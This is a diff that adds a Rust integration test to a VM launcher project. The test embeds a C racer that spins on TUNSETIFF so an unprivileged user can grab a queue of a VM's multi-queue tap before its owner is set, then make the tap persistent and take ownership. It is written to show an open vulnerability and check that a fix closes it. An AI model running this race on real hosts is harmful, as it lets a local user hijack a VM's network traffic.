@@ -308,3 +308,155 @@ fn a_tap_is_its_vms_alone_whatever_its_queue_count_cloud_hypervisor() {
     let v = ns.vmwarden(&env, &["verify-clean", "mqc"]);
     assert!(v.status.success(), "{}", text(&v));
 }
+
+/// A local user that spins on `TUNSETIFF` of a tap's name while the
+/// launcher makes it (the name is in the VM's spec), in C so that it
+/// spends its time in the kernel, two processes of it: `/dev/net/tun`
+/// opened as root (on NixOS the node is 0666), then the ids dropped to
+/// the attacker's with no supplementary group. Each tries `TUNSETIFF` as
+/// one more queue of a multi-queue tap until it succeeds, or the tap has
+/// an owner (the window is closed), or `limit` seconds pass. On success it
+/// detaches its queue at once (`TUNSETQUEUE`, so that the tap shows no
+/// more queues than the VM's), waits for the owner, then makes the tap
+/// persistent, re-attaches its queue and makes the tap its own, prints
+/// `WON` with the kernel's answers (0: done) and holds its queue until
+/// killed; else it prints `LOST`. Arguments: tap name, attacker uid,
+/// limit in seconds.
+const TAP_RACE_C: &str = r#"
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <grp.h>
+#include <linux/if.h>
+#include <linux/if_tun.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <signal.h>
+#include <sys/ioctl.h>
+#include <sys/prctl.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+#include <errno.h>
+static int owned(const char *name) {
+  char p[128], b[32] = {0};
+  snprintf(p, sizeof p, "/sys/class/net/%s/owner", name);
+  int f = open(p, O_RDONLY);
+  if (f < 0) return 0;
+  int n = read(f, b, sizeof b - 1);
+  close(f);
+  return n > 0 && strncmp(b, "-1", 2) != 0;
+}
+int main(int argc, char **argv) {
+  const char *name = argv[1];
+  uid_t uid = atoi(argv[2]);
+  int limit = atoi(argv[3]);
+  int fd = open("/dev/net/tun", O_RDWR);
+  if (fd < 0 || setgroups(0, NULL) || setresgid(uid, uid, uid) || setresuid(uid, uid, uid)) { perror("setup"); return 1; }
+  struct ifreq req; memset(&req, 0, sizeof req);
+  strncpy(req.ifr_name, name, IFNAMSIZ - 1);
+  req.ifr_flags = IFF_TAP | IFF_NO_PI | IFF_VNET_HDR | IFF_MULTI_QUEUE;
+  printf("READY\n"); fflush(stdout);
+  /* Two racers, one a core; the second dies with the first. */
+  pid_t twin = fork();
+  if (twin == 0) prctl(PR_SET_PDEATHSIG, SIGKILL);
+  time_t end = time(NULL) + limit;
+  long n = 0;
+  int done = 0;
+  while (!done && time(NULL) < end) {
+    done = owned(name);
+    for (int i = 0; i < 1000; i++) {
+      n++;
+      struct ifreq r = req;
+      if (ioctl(fd, TUNSETIFF, &r) == 0) {
+        struct ifreq q; memset(&q, 0, sizeof q); q.ifr_flags = IFF_DETACH_QUEUE;
+        int d = ioctl(fd, TUNSETQUEUE, &q);
+        while (!owned(name)) usleep(1000);
+        int p = ioctl(fd, TUNSETPERSIST, 1);
+        q.ifr_flags = IFF_ATTACH_QUEUE;
+        int a = ioctl(fd, TUNSETQUEUE, &q);
+        int o = ioctl(fd, TUNSETOWNER, uid);
+        printf("WON after %ld attempts: detach=%d, then with the tap owned: persist=%d reattach=%d owner=%d\n", n, d, p, a, o);
+        fflush(stdout);
+        pause();
+      }
+    }
+  }
+  printf("LOST after %ld attempts\n", n);
+  fflush(stdout);
+  if (twin > 0) waitpid(twin, NULL, 0);
+  return 0;
+}
+"#;
+
+/// A tap is its VM's alone from the moment it is made: a local user that
+/// spins on `TUNSETIFF` of the tap's name (the spec names it) while the
+/// launcher makes a four-queue tap never gets a queue of it, in any of
+/// several launches. Owner and group set only after the tap and its queues
+/// exist (`own_for` after `create_tap_queues`) leave a window in which
+/// the tap has neither, and the kernel then lets anyone attach one more
+/// queue; an attached (or detached) queue keeps every tun ioctl after the
+/// owner is set (`TUNSETPERSIST`, `TUNSETOWNER`, a re-attach by
+/// `TUNSETQUEUE`, which checks no owner).
+#[test]
+#[ignore = "open: fails on main (the window between TUNSETIFF and TUNSETOWNER); the fix makes the tap where no other user can name it (see docs/design/threat-model.md, A tap is its VM's alone)"]
+fn a_tap_is_its_vms_alone_from_the_moment_it_is_made() {
+    require_root();
+    let env = Env::new();
+    let ns = Netns::new("mqr");
+    ns.bridge("br0");
+    let u = uid(343);
+    let attacker = uid(349);
+    let mut spec = env.spec("mqr", u);
+    spec["vcpus"] = json!(2);
+    spec["interfaces"] = json!([{ "tap": "vmw-mqr4", "bridge": "br0", "queues": 4 }]);
+    env.write_spec("mqr", &spec);
+    let src = env.path("race.c");
+    let racer_bin = env.path("race");
+    std::fs::write(&src, TAP_RACE_C).unwrap();
+    let cc = std::process::Command::new("cc")
+        .arg("-O2")
+        .arg("-o")
+        .arg(&racer_bin)
+        .arg(&src)
+        .output()
+        .unwrap();
+    assert!(cc.status.success(), "cc: {}", text(&cc));
+    for round in 0..40 {
+        let mut race = std::process::Command::new("ip");
+        race.args(["netns", "exec", &ns.name])
+            .arg(&racer_bin)
+            .arg("vmw-mqr4")
+            .arg(attacker.to_string())
+            .arg("15");
+        let mut racer = spawn_logged(race, env.path(&format!("mqr-race{round}.log")));
+        racer.wait_for("READY", Duration::from_secs(10));
+        let mut c = ns.cmd(&env, LAUNCH, &["mqr"]);
+        c.args(["--probe", "--", "sleep", "600"]);
+        let mut g = spawn_logged(c, env.path(&format!("mqr{round}.log")));
+        wait_until("the launch's tap", Duration::from_secs(30), || {
+            tun_fds_of(g.pid()).len() == 4
+        });
+        wait_until("the racer's verdict", Duration::from_secs(30), || {
+            racer
+                .log_text()
+                .lines()
+                .filter(|l| l.starts_with("WON") || l.starts_with("LOST"))
+                .count()
+                > 1
+        });
+        let log = racer.log_text();
+        let line = log.lines().find(|l| l.starts_with("WON")).unwrap_or("LOST");
+        g.kill();
+        racer.kill();
+        assert!(
+            line.starts_with("LOST"),
+            "round {round}: a local user attached a queue to the VM's tap while it was made: {line}"
+        );
+        wait_until("the tap gone", Duration::from_secs(10), || {
+            !ns.has_link("vmw-mqr4")
+        });
+        let (o, rep) = ns.cleanup(&env, "mqr");
+        assert!(o.status.success() && rep["clean"] == true, "{}", text(&o));
+    }
+}
